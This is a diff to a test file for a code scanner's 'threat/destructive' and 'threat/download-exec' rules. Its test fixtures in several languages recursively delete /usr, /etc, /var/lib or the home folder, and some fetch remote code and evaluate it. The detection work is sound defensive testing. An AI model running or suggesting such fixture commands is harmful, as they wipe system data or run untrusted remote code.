@@ -17,6 +17,22 @@ describe('threat/destructive: shell commands put together in other languages, na
     const lua = 'local dirs = { data = "/var/lib" }\nlocal function run(...)\n  return os.execute(table.concat({ ... }, " "))\nend\nrun("rm", "-rf", dirs.data)';
     expect(threats(fence('lua', lua))).toEqual(['threat/destructive 12:1 error']);
   });
+  it('reads a command formatted from a template or interpolated, in Go, Rust, C#, Groovy and PHP', () => {
+    expect(threats(fence('go', 'package main\nconst base = "/usr"\nfunc main() { exec.Command("sh", "-c", fmt.Sprintf("rm -rf %s", base)).Run() }'))).toEqual(['threat/destructive 10:1 error']);
+    expect(threats(fence('rust', 'const ROOT: &str = "/etc";\nfn main() {\n    Command::new("sh").arg("-c").arg(format!("rm -rf {}", ROOT)).status().unwrap();\n}'))).toEqual(['threat/destructive 10:1 error']);
+    expect(threats(fence('csharp', 'var target = "/usr";\nProcess.Start("rm", $"-rf {target}");'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('groovy', 'def dir = "/etc"\n"rm -rf ${dir}".execute()'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('groovy', 'def dir = "/usr"\n["rm", "-rf", dir].execute().waitFor()'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('php', "<?php\n$d = '/var/lib';\n$h = proc_open('rm -rf ' . $d, [], $pipes);"))).toEqual(['threat/destructive 10:1 error']);
+  });
+  it('does not read a name of the program whose value is unknown as an unset shell variable', () => {
+    const go = 'package main\nfunc main() {\n  dir, _ := os.MkdirTemp("", "build")\n  exec.Command("sh", "-c", fmt.Sprintf("rm -rf %s/*", dir)).Run()\n}';
+    expect(threats(fence('go', go))).toEqual([]);
+    expect(threats(fence('rust', 'fn clean(out: &str) {\n    Command::new("sh").arg("-c").arg(format!("rm -rf {}/target", out)).status().unwrap();\n    Command::new("sh").arg("-c").arg(format!("rm -rf {out}/*")).status().unwrap();\n}'))).toEqual([]);
+    expect(threats(fence('csharp', 'var output = Path.Combine(Directory.GetCurrentDirectory(), "bin");\nProcess.Start("/bin/sh", $"-c \\"rm -rf {output}/*\\"");'))).toEqual([]);
+    expect(threats(fence('groovy', 'def buildDir = "build/reports"\n"rm -rf ${buildDir}".execute()\n["rm", "-rf", "${project.buildDir}/tmp"].execute()'))).toEqual([]);
+    expect(threats(fence('php', "<?php\n$cache = __DIR__ . '/var/cache';\nexec(sprintf('rm -rf %s', escapeshellarg($cache)));\nexec(sprintf('rm -rf %s/*', $cache));"))).toEqual([]);
+  });
   it('does not flag a command joined to a project folder, a quoted argument or a folder inside the web root', () => {
     expect(threats(fence('php', "<?php\n$build = __DIR__ . '/build';\nexec('rm -rf ' . escapeshellarg($build));\nexec('rm -rf ' . $build);"))).toEqual([]);
     expect(threats(fence('ruby', 'CACHE = "tmp/cache"\nsystem("rm -rf " + CACHE)'))).toEqual([]);
@@ -37,12 +53,14 @@ describe('threat/destructive: the home folder deleted through a walk or a delete
   it('reads Vim\'s recursive delete of the home folder from Lua', () => {
     expect(threats(fence('lua', 'local where = vim.fn.expand("~")\nvim.fn.delete(where, "rf")'))).toEqual(['threat/destructive 9:1 error']);
     expect(threats(fence('lua', 'vim.fn.delete(os.getenv("HOME"), \'rf\')'))).toEqual(['threat/destructive 8:1 error']);
+    expect(threats(fence('lua', 'local home = vim.env.HOME\nvim.fs.rm(home, { recursive = true, force = true })'))).toEqual(['threat/destructive 9:1 error']);
   });
   it('does not flag a walk or a delete of one folder under the home folder', () => {
     const java = 'Path cache = Paths.get(System.getProperty("user.home"), ".cache", "report-tool");\nFiles.walk(cache).sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());';
     expect(threats(fence('java', java))).toEqual([]);
     expect(threats(fence('kotlin', 'val out = File(projectDir, "build")\nout.walkBottomUp().forEach { it.delete() }'))).toEqual([]);
     expect(threats(fence('lua', 'vim.fn.delete(vim.fn.stdpath("cache") .. "/lazy", "rf")\nvim.fn.delete(vim.fn.expand("~/.local/state/nvim/swap"), "rf")'))).toEqual([]);
+    expect(threats(fence('lua', 'vim.fs.rm(vim.fn.stdpath("cache") .. "/myplugin", { recursive = true })\nlocal tmp = os.tmpname()\nvim.fs.rm(tmp, { recursive = true, force = true })'))).toEqual([]);
   });
 });
 
@@ -55,6 +73,8 @@ describe('threat/download-exec: code fetched from an address handed to an evalua
   it('reads Groovy\'s Eval.me and PHP\'s create_function given downloaded code', () => {
     expect(threats(fence('groovy', 'String fetched = new URL(endpoint).getText()\nEval.me(fetched)'))).toEqual(['threat/download-exec 9:1 error']);
     expect(threats(fence('php', "<?php\n$code = file_get_contents('https://example.org/plugin.txt');\n$fn = create_function('', $code);\n$fn();"))).toEqual(['threat/download-exec 10:1 error']);
+    expect(threats(fence('groovy', 'def text = new URL(args[0]).text\nnew GroovyShell().parse(text).run()'))).toEqual(['threat/download-exec 9:1 error']);
+    expect(threats(fence('groovy', 'def text = new URL("https://example.org/Plugin.groovy").text\ndef type = new GroovyClassLoader().parseClass(text)'))).toEqual(['threat/download-exec 9:1 error']);
   });
   it('does not flag a local script evaluated, a downloaded document parsed, or a helper of the program named evaluate', () => {
     expect(threats(fence('groovy', 'evaluate(new File("config/local.groovy"))\ndef data = new groovy.json.JsonSlurper().parseText(new URL(api).text)\nprintln data.version'))).toEqual([]);
